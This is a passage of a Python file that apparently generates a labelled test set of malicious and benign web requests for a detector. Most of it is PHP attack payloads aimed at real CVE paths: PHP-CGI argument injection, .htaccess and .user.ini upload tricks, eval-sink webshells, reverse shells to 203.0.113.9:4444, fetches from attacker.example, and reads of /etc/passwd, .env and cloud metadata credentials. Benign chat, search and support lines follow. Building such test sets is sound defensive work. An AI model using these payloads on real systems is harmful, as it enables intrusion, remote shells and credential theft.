    ("/cgi-bin/php", "argv", "-d allow_url_include=on -d safe_mode=off -d suhosin.simulation=on -d disable_functions="
     "\"\" -d open_basedir=none -d auto_prepend_file=php://input -n", *ARGV),
    ("/index.php", "argv", "-d allow_url_include=1 -d auto_prepend_file=php://input", *ARGV),
    ("/php-cgi/php-cgi.exe", "argv", "\xadd allow_url_include=1 \xadd auto_prepend_file=php://input", *ARGV),
    ("/test.php", "argv", "-d auto_prepend_file=/etc/passwd", *ARGV),
    ("/cgi-bin/php5", "argv", "-d cgi.force_redirect=0 -d cgi.redirect_status_env=0 -d auto_prepend_file=php://input",
     *ARGV),
    (FPM, "fpm", "PHP_VALUE\nsession.auto_start=1;;;", *PATH),
    (FPM, "fpm", "PHP_VALUE\noutput_handler=;;;;", *PATH),
    (FPM, "fpm", "PHP_VALUE\ninclude_path=/tmp;;;;", *PATH),
    (FPM, "fpm", "PHP_VALUE\nauto_prepend_file=a;;;", *PATH),
    (FPM, "fpm", "PHP_VALUE\nlog_errors=1;;;;;", *PATH),
    (FPM, "fpm", "PHP_VALUE\nerror_log=/tmp/a;;;", *PATH),
    (FPM, "fpm", "PHP_VALUE\nshort_open_tag=1;;;;", *PATH),
    (FPM, "fpm", "PHP_VALUE\nhtml_errors=0;;;;", *PATH),
    ("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php?cmd=upload&target=l1_Lw", "upload[]|.htaccess",
     "AddType application/x-httpd-php .jpg", *CONTENT),
    ("/elfinder/php/connector.minimal.php?cmd=upload&target=l1_Lw", "upload[]|.htaccess",
     "php_value auto_prepend_file \"/tmp/sess_attacker\"", *CONTENT),
    ("/kcfinder/upload.php?type=files", "upload[]|.htaccess",
     "<FilesMatch \"avatar\">\nSetHandler application/x-httpd-php\n</FilesMatch>", *CONTENT),
    ("/administrator/index.php?option=com_media&task=file.upload", "Filedata[]|.htaccess",
     "php_flag engine on\nAddHandler application/x-httpd-php .png", *CONTENT),
    ("/filemanager/upload.php", "file|.htaccess",
     "php_value auto_append_file \"php://filter/convert.base64-decode/resource=avatar.png\"", *CONTENT),
    ("/ckfinder/core/connector/php/connector.php?command=FileUpload&type=Files", "upload|.htaccess",
     "php_value zend.multibyte 1\nphp_value zend.script_encoding \"UTF-7\"\nAddType application/x-httpd-php .txt",
     *CONTENT),
    ("/wp-admin/admin-ajax.php?action=wmuUploadFiles", "wmu_files[0]|.user.ini", "auto_prepend_file=avatar.gif",
     *CONTENT),
    ("/server/php/index.php", "files[]|.user.ini",
     "auto_append_file=php://filter/convert.base64-decode/resource=x.gif", *CONTENT),
    ("/devel/php", "code", "ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');ini_set('open_basedir',"
     "'/');echo file_get_contents('/etc/passwd');"),
    ("/tinker", "code", "ini_set('allow_url_include','1');ini_set('display_errors','1');"),
    ("/index.php?url=gopher://127.0.0.1:9000/_", "fcgi",
     "PHP_VALUE auto_prepend_file = php://input\nPHP_ADMIN_VALUE allow_url_include = On\nSCRIPT_FILENAME "
     "/usr/share/php/PEAR.php"),
    ("/index.php", "argv", "-d disable_functions= -d open_basedir= -d auto_prepend_file=data://text/plain;base64,"
     + _b64("<?php system('id'); ?>"), *ARGV),
]
# The PHP interpreter, through code that reads the request's superglobals: Moodle calculated-question formula
# (`$_GET[0]` in backticks), China Chopper through vBulletin widget_php, eval sinks (Code Snippets, Drupal Devel,
# laravel-web-tinker, CMS Made Simple), ThinkPHP 2.x path, and register_globals / extract() overwrites in Mambo /
# Joomla 1.0 (mosConfig_absolute_path, GLOBALS) and other old PHP applications
PHP_GLOBALS: list[Entry] = [
    ("/question/question.php", "answer[0]", "/*{a*/`$_GET[0]`;//{x}}"),
    ("/index.php", "routestring", "routestring=ajax/render/widget_php&widgetConfig[code]=@eval($_POST['z0']);",
     *FORM_RAW),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code", "assert($_REQUEST['cmd']);"),
    ("/devel/php", "code", "@extract($_REQUEST);@die($f($c));"),
    ("/devel/php", "code", "eval($_SERVER['HTTP_X_CMD']);"),
    ("/tinker", "code", "print_r($_SERVER);"),
    ("/tinker", "code", "var_dump($_ENV);"),
    ("/admin/editusertag.php", "code", "file_put_contents('s.php',$_POST['c']);"),
    ("/admin/editusertag.php", "code", "include($_FILES['f']['tmp_name']);"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code", "$GLOBALS['_POST']['a']($GLOBALS['_POST']['b']);"),
    ("/tinker", "code", "print_r($_SESSION);"),
    (TP_PATH, "s", "s=index/\\think\\app/invokefunction&function=call_user_func&vars[0]=var_dump&vars[1]=$_SERVER",
     *QUERY_RAW),
    ("/index.php", "GLOBALS", "option=com_content&Itemid=1&GLOBALS=&mosConfig_absolute_path=http://attacker.example/x.txt?",
     *QUERY_RAW),
    ("/components/com_extcalendar/extcalendar.php", "mosConfig_absolute_path",
     "GLOBALS[mosConfig_absolute_path]=http://attacker.example/x.txt?", *QUERY_RAW),
    ("/includes/functions.php", "_SERVER", "_SERVER[DOCUMENT_ROOT]=http://attacker.example/x.txt?", *QUERY_RAW),
    ("/admin/index.php", "_SESSION", "_SESSION[logged_in]=1&_SESSION[user_id]=1&_SESSION[role]=admin", *QUERY_RAW),
    ("/devel/php", "code", "echo $_SERVER['PHP_AUTH_USER'].':'.$_SERVER['PHP_AUTH_PW'];"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code", "eval(base64_decode($_COOKIE['x']));"),
    ("/admin/editusertag.php", "code", "$_REQUEST['a']($_REQUEST['b']);"),
    ("/index.php?s=/index/index/name/", "name", "${@eval($_POST[1])}", *PATH),
    ("/tinker", "code", "move_uploaded_file($_FILES['f']['tmp_name'],'/var/www/html/x.php');"),
    ("/devel/php", "code", "eval($HTTP_RAW_POST_DATA);"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code", "array_map('ass'.'ert',(array)$_REQUEST['x']);"),
    ("/admin/editusertag.php", "code", "echo `{$_GET['c']}`;"),
    ("/question/question.php", "answer[1]", "/*{a*/`$_POST[c]`;//{x}}"),
    ("/index.php?option=com_content", "_COOKIE", "_COOKIE[admin]=1&_REQUEST[task]=save", *QUERY_RAW),
]
# The web server's PHP handler, through uploads that keep a PHP-executable name: WP File Manager (CVE-2020-25213),
# wpDiscuz (CVE-2020-24186), Reflex Gallery, jQuery File Upload (CVE-2018-9206), KCFinder, FCKeditor, CKFinder,
# elFinder, Joomla com_media, CuteNews avatars, Responsive FileManager, Laravel Filemanager, Monstra, Textpattern,
# GetSimple, Magento custom options, Drupal webform, KindEditor (IIS), WordPress plugin upload
PHP_UPLOAD: list[Entry] = [
    ("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php?cmd=upload&target=l1_Lw", "upload[]",
     "shell.php", *UPLOAD),
    (WP_AJAX + "?action=wmuUploadFiles&postId=1", "wmu_files[0]", "avatar.php", *UPLOAD),
    ("/wp-content/plugins/reflex-gallery/admin/scripts/FileUploader/php.php?Year=2024&Month=05", "qqfile",
     "cmd.phtml", *UPLOAD),
    ("/server/php/index.php", "files[]", "shell.php5", *UPLOAD),
    ("/kcfinder/upload.php?type=files", "upload[]", "x.pHp", *UPLOAD),
    ("/fckeditor/editor/filemanager/connectors/php/connector.php?Command=FileUpload&Type=File&CurrentFolder=/",
     "NewFile", "shell.php.", *UPLOAD),
    ("/ckfinder/core/connector/php/connector.php?command=FileUpload&type=Files&currentFolder=/", "upload",
     "shell.php;.jpg", *UPLOAD),
    ("/elfinder/php/connector.minimal.php?cmd=upload&target=l1_Lw", "upload[]", "shell.phar", *UPLOAD),
    ("/administrator/index.php?option=com_media&task=file.upload&folder=", "Filedata[]", "shell.php\x00.jpg", *UPLOAD),
    ("/index.php?mod=main&opt=personal", "avatar_file", "sad.php", *UPLOAD),
    ("/filemanager/upload.php", "file", "image.jpg.php", *UPLOAD),
    ("/laravel-filemanager/upload", "upload[]", "shell.php7", *UPLOAD),
    ("/admin/index.php?id=filesmanager", "file", "shell.PHP", *UPLOAD),
    ("/textpattern/index.php?event=file", "thefile", "shell.pht", *UPLOAD),
    ("/admin/upload.php", "file[]", "shell.php4", *UPLOAD),
    ("/checkout/cart/add/", "options_1_file", "shell.php.png", *UPLOAD),
    ("/file/ajax/submitted/upload", "files[submitted_upload]", "shell.php3", *UPLOAD),
    ("/kindeditor/php/upload_json.php?dir=file", "imgFile", "shell.php::$DATA", *UPLOAD),
    ("/admin/upload.php?type=image", "image", "shell.php%00.jpg", *UPLOAD),
    (WP_AJAX + "?action=upload_file", "file", "../../shell.php", *UPLOAD),
    ("/upload.aspx", "file", "shell.php ", *UPLOAD),
    ("/admin/index.php?route=common/filemanager/upload", "file[]", "filename*=UTF-8''shell.php", *UPLOAD),
    ("/wp-content/plugins/reflex-gallery/admin/scripts/FileUploader/php.php", "qqfile", "x.php",
     "header:X-File-Name", "rs-header:X-File-Name"),
    ("/bludit/admin/ajax/upload-images", "images[]", "shell.jpg.phtml", *UPLOAD),
    ("/wp-admin/update.php?action=upload-plugin", "pluginzip", "wp-shell.php", *UPLOAD),
    ("/index.php?option=com_jce&task=plugin.display&plugin=imgmanager", "file", "shell.phtml.gif.php", *UPLOAD),
]
GZ = zlib.compressobj(9, zlib.DEFLATED, -15)
GZ_SYSTEM = _b64(GZ.compress(b"system('id');") + GZ.flush())
IMAP_CMD = _b64("echo '<?php system($_GET[0]);?>'>/var/www/html/i.php")
# The PHP interpreter, through the functions a post-exploitation payload calls (file write / read, process
# control, disable_functions bypasses, sockets, FFI, mail() argument injection in PHPMailer (CVE-2016-10033),
# imap_open ProxyCommand (CVE-2018-19518)) sent to eval sinks: Code Snippets, Drupal Devel, laravel-web-tinker,
# CMS Made Simple user tags, vBulletin widget_php, ThinkPHP invokefunction, Roundcube / Horde IMAP host fields
PHP_RISKY: list[Entry] = [
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code",
     "file_put_contents('/var/www/html/s.php',base64_decode('" + _b64("<?php system($_GET[0]);?>") + "'));"),
    ("/index.php", "routestring",
     "routestring=ajax/render/widget_php&widgetConfig[code]=highlight_file('/var/www/html/config.php');exit;",
     *FORM_RAW),
    ("/devel/php", "code", "show_source('../configuration.php');"),
    (TP_PATH, "s", "s=index/\\think\\app/invokefunction&function=phpinfo&vars[0]=1", *QUERY_RAW),
    ("/tinker", "code", "posix_getpwuid(posix_geteuid());"),
    ("/admin/editusertag.php", "code", "putenv('LD_PRELOAD=/tmp/x.so');mail('a@example.com','','','');"),
    ("/devel/php", "code", "symlink('/etc/passwd','/var/www/html/uploads/p.txt');"),
    ("/tinker", "code", "chmod('/var/www/html/uploads/s.php',0777);"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code",
     "copy('http://attacker.example/s.txt','/var/www/html/s.php');"),
    ("/admin/editusertag.php", "code", "$s=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3');"),
    ("/devel/php", "code",
     "$c=stream_socket_client('tcp://203.0.113.9:4444');while($l=fgets($c)){fwrite($c,shell_exec($l));}"),
    ("/tinker", "code", "echo curl_exec(curl_init('http://169.254.169.254/latest/meta-data/iam/security-credentials/'));"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code", f"eval(gzinflate(base64_decode('{GZ_SYSTEM}')));"),
    ("/admin/editusertag.php", "code", "eval(str_rot13('flfgrz(\\'vq\\');'));"),
    ("/devel/php", "code", "print_r(get_defined_vars());"),
    ("/tinker", "code", "var_dump(ini_get('disable_functions'));"),
    ("/admin/editusertag.php", "code", "print_r(scandir('/var/www'));"),
    ("/devel/php", "code", "readfile('/etc/passwd');"),
    ("/tinker", "code", "unlink('/var/www/html/.htaccess');"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code",
     "rename('/var/www/html/uploads/a.jpg','/var/www/html/uploads/a.php');"),
    ("/admin/editusertag.php", "code",
     "imap_open('{x -oProxyCommand=echo\\t" + IMAP_CMD + "|base64\\t-d|sh}','','');"),
    ("/?_task=login", "_host", "x -oProxyCommand=echo\t" + IMAP_CMD + "|base64\t-d|sh}"),
    ("/devel/php", "code", "error_log('<?php system($_GET[0]);?>',3,'/var/www/html/e.php');"),
    ("/tinker", "code", "FFI::cdef('int system(const char *command);')->system('id');"),
    ("/admin/editusertag.php", "code", "dl('/tmp/evil.so');"),
    ("/index.php?option=com_contact&task=contact.submit", "jform[contact_email]",
     "\"attacker\\\" -oQ/tmp/ -X/var/www/html/phpcode.php some\"@email.com"),
    ("/tinker", "code", "echo file_get_contents('/var/www/html/.env');"),
    ("/devel/php", "code", "posix_kill(posix_getppid(),9);"),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", XSS_PROBES),
    ("xss", "script-tag", XSS_SCRIPT),
    ("xss", "event-handler", XSS_EVENT),
    ("xss", "attribute-vector", XSS_ATTR),
    ("xss", "javascript-uri", XSS_JSURI),
    ("xss", "html-injection", XSS_HTML),
    ("xss", "svg-mathml", XSS_SVG),
    ("xss", "css-expression", XSS_CSS),
    ("xss", "dom-sink", XSS_DOM),
    ("xss", "ie-filter", XSS_IE),
    ("xss", "encoded-entity", XSS_ENCODED),
    ("xss", "client-template", XSS_TEMPLATE),
    ("php", "php-open-tag", PHP_TAG),
    ("php", "php-function-call", PHP_FUNC),
    ("php", "php-variable-functions", PHP_VARFUNC),
    ("php", "php-wrappers", PHP_WRAP),
    ("php", "php-object-injection", PHP_SERIAL),
    ("php", "php-config-directives", PHP_CONFIG),
    ("php", "superglobals", PHP_GLOBALS),
    ("php", "php-file-upload", PHP_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_RISKY),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
REAL_CYCLE = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "param-name", "xml",
              "multipart-field", "path", "query", "form", "json"]
RS_CYCLE = ["rs-query", "rs-form", "rs-json", "rs-query", "rs-xml", "rs-form", "rs-raw-body", "rs-header:User-Agent",
            "rs-query", "rs-header:Referer", "rs-cookie", "rs-form", "rs-param-name", "rs-header:X-Test-Header"]
RAW_SAFE = "=&[]._-:/'*$!(),;{}~@+"
UPLOAD_BODIES = ["<?php system($_GET['cmd']); ?>", "GIF89a;\n<?php echo shell_exec($_REQUEST['c']); ?>",
                 "<?=`$_GET[0]`?>", "<?php eval($_POST['pass']);"]


def _header_safe(value: str) -> bool:
    return all(" " <= ch <= "~" for ch in value) and len(value) < 4000


def _enc(value: str, safe: str = "") -> str:
    """Percent-encoding; characters up to U+00FF as single bytes (PHP-CGI's soft hyphen, Joomla's bytes)."""
    raw = value.encode("latin-1") if all(ord(c) < 256 for c in value) else value.encode()
    return urllib.parse.quote(raw, safe=safe)


def _qn(name: str) -> str:
    return urllib.parse.quote(name, safe="[]_.-")


def _raw(v: str) -> str:
    """A payload that is itself a query string or form body: keys, values and separators kept."""
    return _enc(v, RAW_SAFE)


def _argv(v: str) -> str:
    """PHP-CGI's query string: arguments separated by '+', '=' percent-encoded (no '=' may appear raw)."""
    return "+".join(_enc(part, "/:") for part in v.split(" "))


def _xml_name(name: str) -> str:
    clean = re.sub(r"[^A-Za-z0-9_.-]", "_", name.split("|")[0]).strip("_.-") or "value"
    return clean if clean[0].isalpha() else "v" + clean


def _xml_body(value: str, root: str, name: str) -> str:
    if value.startswith(("<?xml", "<svg xmlns")):
        return value   # the payload is the document (an SVG file)
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<?xml version="1.0" encoding="UTF-8"?><{root}><{_xml_name(name)}>{escaped}</{_xml_name(name)}></{root}>'


class _Set(BlindSet):
    """Bodies and benign records; this set's placements are its own (_real, _rs)."""

    prefix = NAME
    boundary = "----WebKitFormBoundaryp7MA4YWxkTrZu0gW"


SET = _Set()
MP = SET.multipart_type


def _real(place: str, name: str, v: str, i: int) -> dict[str, Any]:
    """Our routes, under the product's parameter name."""
    csrf = "csrf_token=t0k3n&"
    if place == "query":
        return _get("/api/users?" + _qn(name) + "=" + _enc(v) + "&page=1")
    if place == "query-raw":
        return _get("/api/users?" + _raw(v))
    if place == "query-argv":
        return _get("/api/users?" + _argv(v))
    if place == "form":
        return request("POST", "/admin/users/search", csrf + _qn(name) + "=" + _enc(v), FORM, Accept="text/html")
    if place == "form-raw":
        return request("POST", "/admin/users/search", csrf + _raw(v), FORM, Accept="text/html")
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: v})
    if place == "json-body":
        return {**_json("/api/users", {}), "body": v}
    if place == "cookie":
        return request("GET", "/api/users?page=1", Cookie="session=abc123; " + _qn(name) + "=" + _enc(v, COOKIE_SAFE))
    if place.startswith("header:"):
        return request("GET", "/api/users?page=1", **{place.split(":", 1)[1]: v})
    if place == "param-name":
        return _get("/api/users?" + _enc(v) + "=1&page=1")
    if place == "xml":
        return request("POST", "/api/users", _xml_body(v, "user", name), "application/xml")
    if place == "multipart-field":
        return request("POST", "/api/users", SET.multipart([("csrf_token", "t0k3n", None), (name, v, None)]), MP)
    if place == "multipart-filename":
        body = UPLOAD_BODIES[i % len(UPLOAD_BODIES)]
        parts: list[tuple[str, str, str | None]] = [("csrf_token", "t0k3n", None), ("file", body, v)]
        return request("POST", "/admin/users/import", SET.multipart(parts), MP)
    if place == "multipart-content":
        filename = name.split("|")[1]
        return request("POST", "/admin/users/import",
                        SET.multipart([("csrf_token", "t0k3n", None), ("file", v, filename)]), MP)
    if place == "path":
        return _get("/api/users/" + _enc(v))
    raise ValueError(place)


def _rs(place: str, path: str, name: str, v: str, i: int) -> dict[str, Any]:
    """The exploit's own request: the product's path and parameter name."""
    sep = "&" if "?" in path else "?"
    if place == "rs-query":
        return request("GET", path + sep + _qn(name) + "=" + _enc(v))
    if place == "rs-query-raw":
        return request("GET", path + sep + _raw(v))
    if place == "rs-query-argv":
        return request("POST", path + sep + _argv(v), "<?php echo md5('cve'); ?>", FORM)
    if place == "rs-form":
        return request("POST", path, _qn(name) + "=" + _enc(v), FORM)
    if place == "rs-form-raw":
        return request("POST", path, _raw(v), FORM)
    if place == "rs-json":
        return request("POST", path, json.dumps({name: v}), "application/json")
    if place == "rs-json-body":
        return request("POST", path, v, "application/json")
    if place == "rs-xml":
        return request("POST", path, _xml_body(v, "root", name), "text/xml")
    if place == "rs-raw-body":
        return request("POST", path, v, FORM)
    if place.startswith("rs-header:"):
        return request("GET", path, **{place.split(":", 1)[1]: v})
    if place == "rs-cookie":
        return request("GET", path, Cookie=_qn(name) + "=" + _enc(v, COOKIE_SAFE))
    if place == "rs-param-name":
        return request("GET", path + sep + _enc(v) + "=1")
    if place == "rs-path":
        return request("GET", path + _enc(v))
    if place == "rs-multipart-field":
        return request("POST", path, SET.multipart([(name, v, None)]), MP)
    if place == "rs-multipart-filename":
        return request("POST", path, SET.multipart([(name, UPLOAD_BODIES[i % len(UPLOAD_BODIES)], v)]), MP)
    if place == "rs-multipart-content":
        field, filename = name.split("|")
        return request("POST", path, SET.multipart([(field, v, filename)]), MP)
    raise ValueError(place)


def _fits(place: str, v: str) -> bool:
    """Header-borne placements need a printable single-line ASCII value; paths stay short; XML and raw
    bodies carry no control bytes."""
    if place.startswith(("header:", "rs-header:")) or place in ("cookie", "rs-cookie"):
        return _header_safe(v)
    if place in ("path", "rs-path", "param-name", "rs-param-name"):
        return len(v) < 600
    if place in ("xml", "rs-xml", "rs-raw-body"):
        return not any(ch < " " and ch not in "\t\r\n" for ch in v)   # no NUL in an XML or raw text body
    return True


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s, (category, sub, entries) in enumerate(FAMILIES):
        for i, entry in enumerate(entries):
            path, name, payload = entry[0], entry[1], entry[2]
            if len(entry) == 5:
                real_place, rs_place = entry[3], entry[4]
            else:
                real_place = REAL_CYCLE[(i + s) % len(REAL_CYCLE)]
                rs_place = RS_CYCLE[(i + 2 * s) % len(RS_CYCLE)]
                if not _fits(real_place, payload):
                    real_place = ["json", "form", "query"][i % 3]
                if not _fits(rs_place, payload):
                    rs_place = ["rs-form", "rs-query", "rs-json"][i % 3]
            for place, rec in ((real_place, _real(real_place, name, payload, i)),
                               (rs_place, _rs(rs_place, path, name, payload, i))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": payload}


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same product names, keywords and syntax, typed innocently (Slack chat and bios, searches, links to
# advisories and docs, support notes, profiles, uploads, ordinary headers)
CHAT = [
    # patching and advisories
    "Confluence is on 8.5.4 now, the OGNL advisory from last year no longer applies to us",
    "we upgraded Jira to 9.12 LTS over the weekend, the Wallboard plugin still works",
    "Citrix ADC firmware 13.1-49 is rolled out to both appliances, the NetScaler advisory is closed",
    "FortiOS 7.2.7 on the branch firewalls, SSL-VPN disabled until the next maintenance window",
    "Pulse Secure is finally gone, everyone is on the new ZTNA client",
    "the F5 BIG-IP management interface is only reachable from the jump host",
    "Exchange CU14 installed, OWA and ECP look fine, please report anything odd",
    "SharePoint 2019 farm gets the May cumulative update on Saturday",
    "GitLab 16.11.2 is out with security fixes, I'll upgrade the runner hosts too",
    "Jenkins LTS 2.440.3, the script console is restricted to the admins group",
    "Grafana 10.4 upgrade done, the old AngularJS panels show a deprecation banner",
    "Kibana moved to 8.13 with the Elasticsearch cluster, saved searches migrated",
    "Tomcat 10.1.20 on the build box, the examples webapp is removed as usual",
    "WebLogic 14c patch set applied, T3 is blocked at the load balancer",
    "Solr 9.5, the admin UI is behind SSO now",
    "Nagios XI is being replaced by Zabbix 7, status pages stay up until June",
    "the router firmware for the branch office TP-Link devices was updated by IT",
    "Apache httpd 2.4.59 on the legacy hosts, nginx everywhere else",
    # WordPress / Drupal / Joomla / Magento
    "WordPress 6.5.3 auto-updated tonight, Elementor and WPForms still look fine",
    "please don't install WP File Manager on the marketing site, use SFTP for uploads",
    "Wordfence flagged an outdated Slider Revolution on the old blog, updating it",
    "the wpDiscuz plugin on the blog is disabled, comments go through Disqus now",
    "Drupal 10.2.6 security release applied, composer update took forever",
    "Joomla 5.1 migration for the school site is scheduled for the summer",
    "Magento 2.4.7 upgrade needs PHP 8.3, the hosting provider supports it",
    "the Magento checkout template uses Knockout bindings, don't touch data-bind without QA",
    "vBulletin forum archive is read-only, the widget_php module was disabled years ago",
    "phpMyAdmin is only on the VPN, use the DB credentials from 1Password",
    "ThinkPHP app from the acquisition needs a security review before we expose it",
    "Laravel 11 upgrade: Ignition is replaced by the new error page, debug mode off in prod",
    "the Symfony profiler must stay disabled in production, APP_ENV=prod",
    "SugarCRM export of the leads is in the shared drive",
    # PHP talk
    "php 8.3 on the new servers, opcache preload is on",
    "the php-fpm pool for the shop ran out of children again, pm.max_children is 40 now",
    "short_open_tag is off in our php.ini, use the full php open tag in the templates",
    "allow_url_include stays Off, the CIS benchmark checks it",
    "auto_prepend_file is used by the APM agent on the legacy hosts, that's expected",
    "we removed every unserialize() call on user data, json_decode only",
    "the phar extension is still loaded because composer needs it",
    "php://stdin works in CLI scripts, the importer reads from it",
    "the upload form only accepts jpg, png and pdf, .phtml and .phar are rejected server side",
    "system() calls in the deploy script are replaced by Symfony Process",
    "eval is banned by our phpstan rules, the CI job fails on it",
    "$_SERVER['REMOTE_ADDR'] is the proxy address, use the X-Forwarded-For parsing in the middleware",
    "the .htaccess rules for the legacy site moved into the nginx config",
    "the .user.ini on shared hosting sets memory_limit to 256M, nothing else",
    "file_put_contents with LOCK_EX fixed the race in the cache writer",
    "preg_replace with the e modifier is gone since PHP 7 anyway",
    # XSS talk
    "the CSP header now blocks inline scripts on the admin pages",
    "we escape output with htmlspecialchars, Twig autoescape is on",
    "the markdown preview strips script tags and on* attributes, DOMPurify handles it",
    "v-html is only used for the sanitized release notes component",
    "AngularJS is end of life, the old dashboard still uses ng-app on the body",
    "innerHTML replaced by textContent in the notifications widget",
    "SVG avatars are converted to PNG on upload, no inline SVG",
    "the javascript: URL check in the link validator covers upper case too",
    "the bug bounty report about the reflected XSS in search was a duplicate",
    "mailto: and tel: links are allowed in profiles, javascript: ones are stripped",
    "the email template uses inline style attributes because Outlook ignores style blocks",
    "IE11 support was dropped last year, no more conditional comments in the layout",
    "the iframe for the YouTube embed needs the sandbox attribute in the CMS",
    "the base tag in the docs site broke relative links, removed it",
    "CSS expression() only ever worked in old IE, the linter flags it anyway",
    "template literals in the frontend code replaced string concatenation",
    "the JSONP endpoint for the widget is deprecated, use CORS",
    "onload handlers in the legacy pages are moved into addEventListener calls",
    # ordinary
    "the alert for disk usage on the db host fired again at 85%",
    "the event handler for the webhook retries three times with backoff",
    "the script for the quarterly report runs on the first Monday",
    "the shell of the new office building is finished, move-in in autumn",
    "the system status page shows all green after the maintenance",
    "the prompt for the chatbot was updated by the support team",
    "the marquee customer for the launch is the logistics company",
]
SEARCHES = [
    "wordpress", "wp-admin", "elementor", "wpforms", "drupal", "joomla", "magento", "confluence", "jira", "jenkins",
    "gitlab", "sharepoint", "exchange", "owa", "citrix", "fortinet", "f5", "pulse secure", "tomcat", "weblogic",
    "jboss", "solr", "elasticsearch", "grafana", "kibana", "nagios", "zabbix", "phpmyadmin", "thinkphp", "laravel",
    "symfony", "vbulletin", "sugarcrm", "spip", "glpi", "craft cms", "moodle", "roundcube", "zimbra", "tp-link",
    "php", "php 8.3", "phar", "htaccess", "user.ini", "upload", "shell", "system", "eval", "script", "alert",
    "onload", "svg", "math", "expression", "javascript", "template", "angular", "vue", "knockout",
    "O'Brien", "D'Angelo", "José", "Zoë", "Ångström", "São Paulo", "100% cotton", "C# developer",
]
URLS = [
    "https://nvd.nist.gov/vuln/detail/CVE-2021-3129",
    "https://nvd.nist.gov/vuln/detail/CVE-2018-7600",
    "https://nvd.nist.gov/vuln/detail/CVE-2019-16759",
    "https://www.drupal.org/sa-core-2018-002",
    "https://wordpress.org/plugins/wp-file-manager/",
    "https://wordpress.org/news/category/security/",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php#ini.auto-prepend-file",
    "https://www.php.net/manual/en/features.file-upload.php",
    "https://www.php.net/manual/en/function.preg-replace.php",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/iframe#sandbox",
    "https://developer.mozilla.org/en-US/docs/Web/SVG/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://angular.io/guide/security",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://knockoutjs.com/documentation/html-binding.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://owasp.org/www-community/vulnerabilities/PHP_Object_Injection",
    "https://confluence.atlassian.com/security/security-bulletin-may-21-2024-1387867145.html",
    "https://support.citrix.com/article/CTX477714",
    "https://www.fortiguard.com/psirt",
    "https://grafana.com/blog/2021/11/03/grafana-8.2.3-released-with-minor-security-fix/",
    "https://laravel.com/docs/11.x/errors",
    "https://docs.magento.com/user-guide/stores/security-content-security-policies.html",
    "https://github.com/advisories?query=ecosystem%3Acomposer",
    "https://example.com/blog/2024/05/patching-our-wordpress-fleet",
]
PROSE = [
    "Customer reports the WordPress admin shows a white screen after updating Elementor; asked for the PHP error log.",
    "Ticket 4412: the Magento checkout shows 'Invalid Form Key' after login, cleared the cache, fixed.",
    "The Jira filter for the support queue is project = SUP AND status = Open ORDER BY created DESC.",
    "Confluence page 'Onboarding' has a broken include macro; the source page was moved.",
    "Please reset the phpMyAdmin password for the reporting user and store it in the vault.",
    "Grafana alert 'API latency' fired at 02:14 UTC; the panel uses the Prometheus datasource.",
    "The Drupal site's contact form sends mail through PHPMailer; SMTP credentials were rotated.",
    "Joomla extension update failed because the tmp folder was not writable; fixed permissions.",
    "GitLab CI pipeline for the PHP service runs phpunit and phpstan on every merge request.",
    "Jenkins job 'deploy-shop' failed at the composer install step; a mirror was down.",
    "SharePoint site for HR: the upload of files over 250 MB fails, that's the configured limit.",
    "OWA users see a certificate warning; the new certificate is installed on the load balancer.",
    "Citrix Workspace app 2403 is the supported client version for remote staff.",
    "The FortiGate policy for the guest Wi-Fi blocks peer-to-peer traffic.",
    "Tomcat access log rotation is daily; logs are kept for 30 days.",
    "Solr reindex of the product catalogue took 40 minutes.",
    "Nagios check_http for the shop returns 200 in 180 ms.",
    "Laravel queue workers restart after each deployment via Supervisor.",
    "The ThinkPHP admin panel from the acquired company is now behind the VPN.",
    "vBulletin archive is static HTML now; search is handled by the site search.",
    "The SVG logo in the email footer renders as a broken image in Outlook; a PNG fallback is added.",
    "The onboarding script sends an alert to the team channel when a new account is created.",
    "The event handler for failed payments now logs the gateway response code.",
    "Style guide: use the expression 'sign in', not 'log in', in the UI copy.",
    "The template for invoices shows the VAT number under the company address.",
    "The upload limit for avatars is 2 MB; allowed types are JPEG, PNG and WebP.",
    "The system was unavailable from 10:05 to 10:12 because of a database failover.",
    "The shell company in the fraud case was reported to the bank.",
    "Javascript errors on the checkout page come from an outdated browser extension.",
    "The PHP version on the shared hosting plan is 8.2; 8.3 is available on request.",
]
PROFILES = [
    ("Laravel Partners GmbH", "Torstraße 10, Berlin"),
    ("Drupal Agency Nordic", "Kungsgatan 12, Stockholm"),
    ("Joomla! Studio", "Via Roma 4, Torino"),
    ("Magento Masters Ltd", "12 Commerce St, Manchester"),
    ("Jira Consulting Group", "400 Atlassian Way, Austin"),
    ("Grafana Labs Fan Club", "Hauptplatz 1, Graz"),
    ("Symfony Solutions", "12 rue de Rivoli, Paris"),
    ("Script & Type Bookshop", "Market Sq 2, Bath"),
    ("Alert Security Services", "Main St 44, Dublin"),
